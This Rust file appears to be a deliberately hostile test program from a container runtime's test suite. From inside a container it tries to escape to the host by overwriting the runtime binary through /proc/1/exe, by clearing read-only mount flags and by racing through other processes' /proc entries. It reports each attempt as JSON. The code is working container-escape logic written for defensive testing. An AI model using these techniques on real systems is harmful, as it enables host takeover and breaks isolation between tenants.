//! A hostile program: run inside a container, it goes for the runtime's own binary and for the host behind it.
//!
//! | command | what it does |
//! |---|---|
//! | `exe PATH [KILL-PID]` | everything that could make the file behind `PATH` (`/proc/1/exe`) writable; once more after `KILL-PID` was killed |
//! | `start SOCKET` | connects to the socket of a created container, says the word, and waits until the other side hangs up |
//! | `race FILE` | until `FILE` is there: the same for the executables of all other processes, and a look behind their `root`, `cwd` and `fd` |
//!
//! All answer with JSON on the standard output; `race` begins with an empty line when it has held an executable. Nothing
//! succeeds silently: what was opened for writing is written to, so that the host's file would change.
#![forbid(unsafe_code)]
#![allow(clippy::print_stdout, reason = "its output is its purpose")]

use forgeone_sys::fs::{self, CWD, Mode, OFlags};
use forgeone_sys::mount::{self, MountAttrFlags, MountFlags, OpenTreeFlags};
use forgeone_sys::{OwnedFd, process, socket};
use serde_json::json;
use std::collections::{BTreeMap, BTreeSet};
use std::os::unix::fs::MetadataExt;
use std::path::{Path, PathBuf};

/// What a file of the host is overwritten with.
const LOOT: &[u8] = b"#!/bin/sh\necho pwned\n";

/// A file that the host has in its root directory and that no container gets: who sees it has got out.
const HOST: &str = "FORGEONE_TEST_HOST_MARK";

#[derive(Default)]
struct Report {
    /// Executables of others that could be held.
    seen: u64,
    /// Answers by attempt.
    answers: BTreeMap<String, BTreeSet<String>>,
    /// Attempts that changed something.
    won: BTreeSet<String>,
    /// What of the host could be looked at.
    host: BTreeSet<String>,
}

impl Report {
    fn note<T>(&mut self, attempt: &str, result: &forgeone_sys::Result<T>) {
        let answer = result.as_ref().map_or_else(|e| format!("{:?}", e.errno()), |_| "ok".to_owned());
        self.answers.entry(attempt.to_owned()).or_default().insert(answer);
    }

    fn print(&self) {
        let answers = &self.answers;
        println!("{}", json!({ "seen": self.seen, "answers": answers, "won": self.won, "host": self.host }));
    }
}

fn main() {
    let args: Vec<String> = std::env::args().skip(1).collect();
    let words: Vec<&str> = args.iter().map(String::as_str).collect();
    let mut report = Report::default();
    match words[..] {
        ["exe", path] => exe(Path::new(path), None, &mut report),
        ["exe", path, pid] => exe(Path::new(path), pid.parse().ok(), &mut report),
        ["start", socket] => start(Path::new(socket), &mut report),
        ["race", stop] => race(Path::new(stop), &mut report),
        _ => std::process::exit(64),
    }
    report.print();
}

fn exe(path: &Path, kill: Option<i32>, report: &mut Report) {
    let Ok(held) = fs::open(path, OFlags::PATH, Mode::empty()) else { return };
    // What is held stays what it is, whatever the process executes meanwhile.
    if fs::fstat(&held).is_ok_and(|stat| ours().contains(&(stat.st_dev, stat.st_ino))) {
        return;
    }
    report.seen += 1;
    let read = fs::open(fs::fd_path(&held), OFlags::RDONLY, Mode::empty()).ok();
    let all = |report: &mut Report, when: &str| {
        for fd in std::iter::once(&held).chain(&read) {
            write(&fs::fd_path(fd), &format!("open{when}"), report);
            clear_read_only(fd, when, report);
        }
    };
    all(report, "");
    if let Some(pid) = kill {
        let _ = process::kill(pid, 9);
        let gone =
            || std::fs::read_to_string(format!("/proc/{pid}/stat")).map_or(true, |s| s.contains(") Z "));
        while !gone() {
            std::thread::yield_now();
        }
        all(report, " after its end");
    }
}

/// The programs of this container, which may be written.
fn ours() -> Vec<(u64, u64)> {
    ["/proc/self/exe", "/bin/busybox"].into_iter().filter_map(|path| identity(Path::new(path))).collect()
}

/// Opens for writing, and writes.
fn write(path: &Path, attempt: &str, report: &mut Report) {
    let opened = fs::open(path, OFlags::WRONLY, Mode::empty());
    report.note(attempt, &opened);
    let Ok(file) = opened else { return };
    let written = fs::write_once(&file, LOOT);
    report.note(&format!("write after {attempt}"), &written);
    if written.is_ok() {
        report.won.insert(attempt.to_owned());
    }
}

/// mount(2), mount_setattr(2), open_tree(2): on the mount that the executable is in, and on a copy of it.
fn clear_read_only(fd: &OwnedFd, when: &str, report: &mut Report) {
    let (path, none) = (fs::fd_path(fd), MountAttrFlags::empty());
    let remounted = mount::mount_remount(&path, MountFlags::BIND, None);
    report.note(&format!("remount{when}"), &remounted);
    let clear = MountAttrFlags::MOUNT_ATTR_RDONLY;
    let cleared = mount::mount_setattr(fd, "", false, none, clear, None, None);
    report.note(&format!("mount_setattr{when}"), &cleared);
    if remounted.is_ok() || cleared.is_ok() {
        report.won.insert(format!("read-only cleared{when}"));
    }
    write(&path, &format!("open after clearing{when}"), report);
    let flags = OpenTreeFlags::OPEN_TREE_CLONE | OpenTreeFlags::AT_EMPTY_PATH;
    let tree = mount::open_tree(fd, "", flags);
    report.note(&format!("open_tree{when}"), &tree);
    if let Ok(tree) = tree {
        let cleared = mount::mount_setattr(&tree, "", false, none, clear, None, None);
        report.note(&format!("mount_setattr of a copy{when}"), &cleared);
        write(&fs::fd_path(&tree), &format!("open of a copy{when}"), report);
    }
    let bound = mount::mount_bind(&path, "/tmp/target", false);
    report.note(&format!("bind{when}"), &bound);
    if bound.is_ok() {
        let remounted = mount::mount_remount("/tmp/target", MountFlags::BIND, None);
        report.note(&format!("remount of a bind{when}"), &remounted);
        write(Path::new("/tmp/target"), &format!("open of a bind{when}"), report);
        let _ = mount::umount("/tmp/target", mount::UnmountFlags::DETACH);
    }
}

fn start(path: &Path, report: &mut Report) {
    let (parent, name) = (path.parent().unwrap_or(path), path.file_name().unwrap_or_default());
    let directory = fs::open(parent, OFlags::PATH | OFlags::DIRECTORY, Mode::empty());
    let connected =
        directory.and_then(|directory| socket::connect_seqpacket(&directory, &name.to_string_lossy()));
    report.note("connect", &connected);
    let Ok(socket) = connected else { return };
    report.note("say", &socket::send(&socket, b"g", &[]));
    report.note("answer", &socket::receive(&socket, 1 << 16));
}

fn race(stop: &Path, report: &mut Report) {
    let (own, mark) = (std::process::id().to_string(), std::env::var(HOST).unwrap_or_default());
    while !stop.exists() {
        for pid in std::fs::read_dir("/proc").into_iter().flatten().flatten() {
            let name = pid.file_name().to_string_lossy().into_owned();
            if name == own || !name.bytes().all(|byte| byte.is_ascii_digit()) {
                continue;
            }
            let before = report.seen;
            exe(&pid.path().join("exe"), None, report);
            if before == 0 && report.seen > 0 {
                println!();
            }
            behind(&pid.path(), mark.trim_start_matches('/'), report);
        }
    }
}

fn identity(path: &Path) -> Option<(u64, u64)> {
    let found = std::fs::metadata(path).ok()?;
    Some((found.dev(), found.ino()))
}

/// What of the host is in another process' hands.
fn behind(process: &Path, mark: &str, report: &mut Report) {
    let is_host = |root: PathBuf| !mark.is_empty() && root.join(mark).exists();
    for way in ["root", "cwd"] {
        if is_host(process.join(way)) {
            report.host.insert(way.to_owned());
        }
    }
    for entry in std::fs::read_dir(process.join("fd")).into_iter().flatten().flatten() {
        let path = entry.path();
        let Ok(target) = std::fs::read_link(&path) else { continue };
        // A directory of the host's, or the root of a procfs, whose first process is the host's.
        if is_host(path.clone()) || is_host(path.join("1/root")) {
            report.host.insert(format!("descriptor of {}", target.display()));
        }
        if target.ends_with("config.json") || target.ends_with("state.json") {
            let opened = fs::openat(CWD, &path, OFlags::WRONLY, Mode::empty());
            report.note("record", &opened);
            if opened.is_ok() {
                report.host.insert(format!("{} for writing", target.display()));
            }
        }
    }
}
